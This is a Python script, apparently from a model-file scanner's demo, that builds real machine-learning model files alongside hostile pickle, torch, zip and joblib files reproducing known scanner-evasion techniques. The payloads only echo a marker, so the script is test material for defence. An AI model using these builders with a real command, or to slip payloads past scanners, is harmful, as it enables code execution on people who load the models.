#!/usr/bin/env python3
"""Build the demo's model files: real models saved by real libraries, and hostile files.

    python scripts/build_demo_models.py [OUTDIR]      # default: demo-out/models

Benign files are made with torch, scikit-learn, joblib and numpy exactly as users make them.
Hostile files are written byte by byte, each named after the technique it reproduces; nothing
here ever loads a pickle, so no payload runs while they are built (or at all: the payloads
only echo a marker). Output is deterministic for a given set of library versions.
"""

from __future__ import annotations

import argparse
import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

MARKER = b"echo modelshield-demo-payload"
"""The shell command every payload would run if someone loaded the file."""


# ---- hostile pickles, byte by byte -----------------------------------------------------


def _binunicode(text: bytes) -> bytes:
    return b"X" + struct.pack("<I", len(text)) + text


def reduce_os_system(command: bytes = MARKER) -> bytes:
    """The classic payload (CWE-502): ``GLOBAL os system``, a 1-tuple, ``REDUCE``, ``STOP``."""
    return b"\x80\x02" + b"cos\nsystem\n" + _binunicode(command) + b"\x85R."


def nullifai_broken_pickle(command: bytes = MARKER) -> bytes:
    """nullifAI (ReversingLabs, February 2025): the payload first, then a stream that breaks.

    ``pickle.load`` runs the REDUCE before it reaches the invalid opcode, so the call happens
    although loading then fails; scanners that give up on the parse error report nothing.
    """
    payload = b"\x80\x02" + b"cos\nsystem\n" + _binunicode(command) + b"\x85R0"  # REDUCE, POP
    return payload + b"\xff\xfe garbage without a STOP opcode"


# ---- hostile containers -------------------------------------------------------------------


def torch_zip_with_payload(checkpoint: bytes) -> bytes:
    """A real torch zip checkpoint whose ``data.pkl`` is replaced by a payload.

    Every other member (tensor storages, version records) is kept, so the file still looks
    like a PyTorch checkpoint to anything that only checks the layout.
    """
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(checkpoint)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("/data.pkl"):
                data = reduce_os_system()
            dst.writestr(info, data)
    return out.getvalue()


def zip_local_central_name_mismatch() -> bytes:
    """A zip whose local header names ``payload.pkl`` while the central directory says
    ``weights.txt`` (picklescan's ``malicious1_central_directory.zip`` technique).

    Readers that trust one name and scanners that route members by the other disagree about
    what the member is; the bytes are a pickle payload either way.
    """
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("weights.txt", reduce_os_system())
    data = bytearray(out.getvalue())
    # The local header comes first: 30 fixed bytes, then the name (same length, patched).
    if data[:4] != b"PK\x03\x04" or data[30:41] != b"weights.txt":
        raise RuntimeError("unexpected zip layout from zipfile")
    data[30:41] = b"payload.pkl"
    return bytes(data)


def joblib_compressed_payload() -> bytes:
    """A joblib file in joblib's zlib-compressed layout whose pickle is a payload.

    ``joblib.load`` recognises the zlib header, inflates the stream and unpickles it; scanners
    that only read uncompressed pickles see opaque bytes.
    """
    return zlib.compress(reduce_os_system(), 3)


# ---- benign models made by the real libraries -------------------------------------------


def build_benign(out: Path) -> dict[str, bytes]:
    """Save real models; returns the torch state_dict checkpoint bytes for reuse."""
    import joblib
    import numpy as np
    import torch
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 3))
    torch.save(model.state_dict(), out / "torch_state_dict.pt")
    torch.save(model, out / "torch_full_model.pt")
    torch.save(model.state_dict(), out / "torch_legacy.pt", _use_new_zipfile_serialization=False)

    features, target = load_iris(return_X_y=True)
    pipeline = Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=500))])
    pipeline.fit(features, target)
    joblib.dump(pipeline, out / "sklearn_pipeline.joblib")
    joblib.dump(pipeline, out / "sklearn_pipeline_compressed.joblib", compress=3)

    rng = np.random.default_rng(0)
    np.save(out / "weights.npy", rng.standard_normal((16, 16)).astype(np.float32))
    labels = np.array([{"id": 0, "name": "setosa"}, {"id": 1, "name": "versicolor"}], dtype=object)
    np.save(out / "labels_object_array.npy", labels, allow_pickle=True)
    np.savez(out / "arrays.npz", weights=rng.standard_normal(8), labels=labels)
    return {"torch_state_dict.pt": (out / "torch_state_dict.pt").read_bytes()}


HOSTILE: dict[str, Callable[[dict[str, bytes]], bytes]] = {
    "reduce_os_system.pkl": lambda _: reduce_os_system(),
    "nullifai_broken_pickle.pkl": lambda _: nullifai_broken_pickle(),
    "torch_data_pkl_replaced.pt": lambda made: torch_zip_with_payload(made["torch_state_dict.pt"]),
    "zip_local_central_name_mismatch.zip": lambda _: zip_local_central_name_mismatch(),
    "joblib_compressed_payload.joblib": lambda _: joblib_compressed_payload(),
}
"""Hostile files by name; each builder gets the benign files' bytes."""


def main(argv: list[str] | None = None) -> int:
    """Write every demo file into the output directory and list them."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("outdir", nargs="?", default="demo-out/models", type=Path)
    args = parser.parse_args(argv)
    out: Path = args.outdir
    out.mkdir(parents=True, exist_ok=True)
    made = build_benign(out)
    for name, build in HOSTILE.items():
        (out / name).write_bytes(build(made))
    for path in sorted(out.iterdir()):
        kind = "hostile" if path.name in HOSTILE else "benign "
        print(f"  {kind}  {path.stat().st_size:>8} B  {path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
